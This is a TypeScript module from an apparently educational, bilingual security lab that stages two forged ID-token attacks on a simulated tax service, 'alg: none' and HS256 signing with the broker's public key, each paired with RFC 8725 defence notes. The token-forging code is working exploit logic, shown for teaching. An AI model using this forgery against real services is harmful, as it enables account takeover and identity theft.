/** Two ways to write an ID token oneself: without a signature, and signed with a public key. */
import { createHmac, createPublicKey, type JsonWebKey } from 'node:crypto';
import {
  ANGELA_CIVIL_STATUS,
  ANGELAS_FILE,
  claimFile,
  giveAngelaAFile,
  SERVICE,
} from '../actors.ts';
import { type Attack, fails, type Narrate, type Outcome, works } from '../attack.ts';
import type { Lab } from '../lab.ts';

const common = {
  victimSees: {
    fr: 'Rien. Elle n’est même pas devant un écran.',
    en: 'Nothing. She is not even at a screen.',
  },
  attackerGains: {
    fr: 'N’importe quel compte, sans victime, sans mot de passe, sans tiers de confiance.',
    en: 'Any account, with no victim, no password and no broker.',
  },
  refusal: 'ERR_JOSE_ALG_NOT_ALLOWED',
  prepare: giveAngelaAFile,
} as const;

export const algNone: Attack = {
  ...common,
  id: 'alg-none',
  rfc: 'RFC 8725 §3.1',
  title: { fr: 'Le jeton sans signature', en: 'The token without a signature' },
  hook: {
    fr: '« alg: none » : le jeton dit lui-même qu’il n’y a rien à vérifier.',
    en: '“alg: none”: the token itself says that there is nothing to check.',
  },
  scene: {
    fr: 'Malo écrit un jeton d’identité au nom d’Angela, avec son état civil, et met dans l’en-tête « alg: none ». Puis il le présente à l’entrée de l’application mobile des Impôts.',
    en: 'Malo writes an ID token in Angela’s name, with her civil status, and puts “alg: none” in the header. Then he shows it at the door of the tax office’s phone application.',
  },
  weakness: 'service.accepts-alg-none',
  check: 'const algorithms = [idTokenSignedResponseAlg];',
  defence: {
    fr: 'Le service sait d’avance avec quel algorithme le tiers de confiance signe pour lui. Ce que l’en-tête du jeton propose ne compte pas.',
    en: 'The service knows beforehand which algorithm the broker signs with for it. What the header of the token proposes does not count.',
  },
  play: (lab, narrate) =>
    present(lab, narrate, {
      token: `${unsigned(lab, 'none')}.`,
      fr: 'Écrit un jeton d’identité au nom d’Angela, en-tête « alg: none », sans signature.',
      en: 'Writes an ID token in Angela’s name, header “alg: none”, without a signature.',
    }),
};

export const publicKeySecret: Attack = {
  ...common,
  id: 'public-key-as-secret',
  rfc: 'RFC 8725 §3.1',
  title: { fr: 'La clé publique prise pour un secret', en: 'The public key taken for a secret' },
  hook: {
    fr: 'Signé en HS256… avec la clé que le tiers de confiance publie.',
    en: 'Signed with HS256… with the key that the broker publishes.',
  },
  scene: {
    fr: 'Le tiers de confiance signe avec une clé privée et publie l’autre. Malo prend la clé publique, s’en sert comme d’un mot de passe pour signer en HS256, et change l’algorithme dans l’en-tête.',
    en: 'The broker signs with a private key and publishes the other one. Malo takes the public key, uses it like a password to sign with HS256, and changes the algorithm in the header.',
  },
  weakness: 'service.accepts-public-key-as-secret',
  check: 'const algorithms = [idTokenSignedResponseAlg];',
  defence: {
    fr: 'L’algorithme est un réglage du service, jamais une proposition du jeton : une clé publique ne peut donc pas servir de secret partagé.',
    en: 'The algorithm is a setting of the service, never a proposal of the token: so a public key cannot be used as a shared secret.',
  },
  async play(lab, narrate) {
    const published = await lab.attacker.open(`${lab.issuer}/jwks`);
    narrate('attacker', 'Lit les clés publiques.', 'Reads the public keys.');
    const { keys } = JSON.parse(published.text) as { keys: JsonWebKey[] };
    const [key = {}] = keys;
    const pem = createPublicKey({ key, format: 'jwk' }).export({ type: 'spki', format: 'pem' });
    const content = unsigned(lab, 'HS256');
    const signature = createHmac('sha256', pem).update(content).digest('base64url');
    return present(lab, narrate, {
      token: `${content}.${signature}`,
      fr: 'Signe en HS256 un jeton au nom d’Angela, avec la clé publique pour secret.',
      en: 'Signs with HS256 a token in Angela’s name, with the public key as the secret.',
    });
  },
};

/** Header and claims, as the service expects them of its broker. */
function unsigned({ issuer, credentials }: Lab, alg: string): string {
  const claims = {
    ...{ iss: issuer, aud: credentials(SERVICE).clientId, sub: 'written-by-malo', acr: 'eidas1' },
    ...ANGELA_CIVIL_STATUS,
  };
  const encoded = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
  return `${encoded({ alg, typ: 'JWT' })}.${encoded(claims)}`;
}

async function present(
  lab: Lab,
  narrate: Narrate,
  { token, fr, en }: { token: string; fr: string; en: string },
): Promise<Outcome> {
  narrate('attacker', fr, en);
  const page = await lab.attacker.send(`${lab.url(SERVICE)}/phone`, { id_token: token });
  narrate('attacker', 'Le présente aux Impôts.', 'Shows it to the tax office.');
  const account = await claimFile(lab, lab.attacker);
  if (account.shown('file-number') === ANGELAS_FILE)
    return works(
      `Malo lit le dossier ${ANGELAS_FILE}, celui d’Angela.`,
      `Malo reads file ${ANGELAS_FILE}, Angela’s.`,
    );
  return fails(
    'Le service refuse : cet algorithme n’est pas celui qu’il attend.',
    'The service refuses: this algorithm is not the one it expects.',
    page.refusal,
  );
}
